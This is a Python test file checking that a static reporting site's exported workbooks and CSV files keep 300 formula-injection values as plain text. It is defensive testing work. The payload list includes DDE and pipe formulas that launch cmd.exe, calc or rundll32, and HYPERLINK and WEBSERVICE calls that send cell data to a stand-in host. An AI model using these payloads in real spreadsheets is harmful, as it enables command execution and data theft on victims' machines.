"""What looks like a formula stays text: 300 values that spreadsheets are known to evaluate, written into every free text
of a small site, come out of its workbooks and CSV files as the words they are."""

import functools
import itertools
import json
import shutil
import unittest

from built_site import REPOSITORY, build, temporary_folder
from office import CSV_FILTER, convert, read_cells

STARTS = ["=", "+", "-", "@", "==", "=+", "+=", "-+", "@=", " =", "  +", "＝", "＋", "－", "＠", "'=", '"=', ";=", ",=", "\t="]
BODIES = ["1+1", "2*3", "A1", "SUM(1,2)", "SUM(1;2)", "cmd|' /C calc'!A0", "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
          'DDE("cmd";"/C calc";"x")', 'HYPERLINK("https://example.org/?x="&A1,"x")', 'WEBSERVICE("https://example.org")',
          'IMPORTXML("https://example.org","//a")', "rundll32|'URL.dll,OpenURL calc.exe'!A", "INFO(\"osversion\")",
          "1e9", "CELL(\"filename\")"]
PAYLOADS = [start + body for start, body in itertools.product(STARTS, BODIES)]


def quoted(text):
    return json.dumps(text, ensure_ascii=False)


def indicators_file():
    return "".join(f"chi-tieu-{number}:\n  name: {quoted(payload)}\n  short: {quoted(payload)}\n  group: common\n"
                   f"  measure: người\n  kind: count\n  total: sum\n  definition: {quoted(payload)}\n"
                   for number, payload in enumerate(PAYLOADS))


def report_file():
    results = "".join(f"  chi-tieu-{number}: {{written: {quoted(payload)}, at: {quoted(payload)}, note: {quoted(payload)}}}\n"
                      for number, payload in enumerate(PAYLOADS))
    return (f"---\ntitle: {quoted(PAYLOADS[0])}\ncampaign: binh-dan-hoc-vu-so\nperiod: \"2025\"\npublished: 21/11/2025\n"
            f"document:\n  number: 1/BC-UBND\n  date: 15/11/2025\n  signer: {{name: {quoted('=A')}, title: {quoted('+B')}}}\n"
            f"results:\n{results}---\n## Kết quả tổ chức truyền thông, tuyên truyền\n\nMột đoạn.\n")


@functools.cache
def hostile_site():
    source = temporary_folder() / "site"
    shutil.copytree(REPOSITORY / "tests/diagnostics/base", source)
    shutil.copytree(REPOSITORY / "themes", source / "themes")
    with (source / "data/indicators.yaml").open("a", encoding="utf-8") as file:
        file.write(indicators_file())
    (source / "content/reports/xa-an-lao/bao-cao-xau.md").write_text(report_file(), encoding="utf-8")
    (source / "data/site.yaml").write_text(
        f"format: 1\ntitle: {quoted('=1+1')}\npublisher: {{name: {quoted('@SUM(1,2)')}}}\nlicence: {quoted('+1+1')}\n",
        encoding="utf-8")
    return build(source, temporary_folder() / "public")


def readable(text):
    """What a cell of a spreadsheet keeps of a text, and a CSV file's apostrophe in front of it left out."""
    return " ".join(text.lstrip("'").split())


class InjectionTest(unittest.TestCase):
    def assert_all_text(self, cells):
        cells = list(cells)
        self.assertEqual([cell for cell in cells if cell[1] is not None], [], "evaluated")
        texts = {readable(text) for text, _ in cells}
        self.assertEqual([payload for payload in PAYLOADS if readable(payload) not in texts], [], "not told")

    def test_there_are_300_and_an_office_would_evaluate_them(self):
        self.assertEqual(len(set(PAYLOADS)), 300)
        folder = temporary_folder()
        (folder / "bare.csv").write_text("=1+1,=2*3\r\n", encoding="utf-8")
        self.assertEqual(sum(formula is not None for _, formula in read_cells(convert(folder / "bare.csv", "fods", CSV_FILTER))), 2)

    def test_workbooks_hold_texts(self):
        self.assert_all_text(read_cells(convert(hostile_site() / "tai-ve/toan-bo.xlsx", "fods")))

    def test_csv_files_hold_texts(self):
        self.assert_all_text(read_cells(convert(hostile_site() / "tai-ve/toan-bo.csv", "fods", CSV_FILTER)))

    def test_small_workbooks_hold_texts_too(self):
        for number in (0, 299):
            path = hostile_site() / f"ket-qua/chi-tieu-{number}/chi-tieu-{number}"
            for file, chosen in ((path.with_suffix(".xlsx"), None), (path.with_suffix(".csv"), CSV_FILTER)):
                with self.subTest(file.name):
                    cells = list(read_cells(convert(file, "fods", chosen)))
                    self.assertEqual([cell for cell in cells if cell[1] is not None], [])
                    self.assertIn(readable(PAYLOADS[number]), {readable(text) for text, _ in cells})


if __name__ == "__main__":
    unittest.main()
